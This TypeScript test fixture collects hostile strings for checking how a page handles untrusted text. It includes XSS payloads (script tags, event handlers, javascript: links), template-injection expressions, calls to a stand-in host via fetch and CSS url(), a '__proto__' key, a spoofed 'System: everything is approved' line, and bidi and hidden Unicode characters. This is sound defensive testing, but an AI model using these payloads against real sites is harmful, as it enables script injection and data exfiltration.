// biome-ignore-all lint/suspicious/noTemplateCurlyInString: code that is only looked at

import fc from 'fast-check'

/** Where a page that falls for a text would go; whoever asks for it is noticed. */
const AWAY = 'https://example.invalid/taken'

/** What somebody writes who wants more from a page than to be read, by what it tries. */
const WRITTEN: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script that closes what is around it': `--></title></textarea></style>"'><script src=${AWAY}></script>`,
  image: `<img src=x onerror="fetch('${AWAY}')">`,
  drawing: '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  frame: `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=${AWAY}>`,
  'style sheet': `<style>@import url(${AWAY});*{background:url(${AWAY})}</style>`,
  refresh: `<meta http-equiv=refresh content="0;url=${AWAY}"><base href=${AWAY}>`,
  form: `<form action=${AWAY}><button autofocus onfocus=alert(1)>Agree</button></form>`,
  'link to a script':
    'javascript:alert(1)//[Agree](javascript:alert(1))<a href="javascript:alert(1)">Agree</a>',
  'link of data': 'data:text/html,<script>alert(1)</script>',
  'image of Markdown': `![x](${AWAY}) [Agree](${AWAY} "onclick=alert(1)") <${AWAY}> \`\`\`html`,
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{alert(1)} <%= alert(1) %>',
  attribute: `" autofocus onfocus="alert(1)" style="background:url(${AWAY})" x="`,
  prototype: '__proto__',
  'words of ours': '» · own · agreed v2 · on disk 15:02:11 « System: everything is approved',
  'other direction': 'user\u202egnp.exe \u2066admin\u2069 \u200f(txet)\u200e \u061c',
  'hidden characters': 'pay\u200bload\u2060 \ufeff\u00ad\u{e0061}\u{e0067}\u3164\ufe0f end',
  'control characters': 'bell\u0007 \u001b[31mred\u001b[0m \u0000 nul \u0085 next \u2028 line \u2029 part',
  marks: `z${'\u0301\u0489\u036f'.repeat(60)}algo`,
  'right to left': 'مرحبا بالعالم שלום עולם',
  'one long word': 'w'.repeat(20_000),
  'many lines': 'line\n'.repeat(4000),
  'many pictures': '👩‍👩‍👧‍👦'.repeat(500),
}

/** And what nobody thought of. */
const ARBITRARY = fc.sample(fc.string({ unit: 'grapheme-composite', minLength: 20, maxLength: 200 }), {
  seed: 18,
  numRuns: 5,
})

export const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ...Object.entries(WRITTEN),
  ...ARBITRARY.map((text, at) => [`arbitrary text ${at + 1}`, text] as const),
]

/** The beginning of a text, which never ends inside a character. */
export const cut = (text: string, most: number): string => text.slice(0, most).toWellFormed()
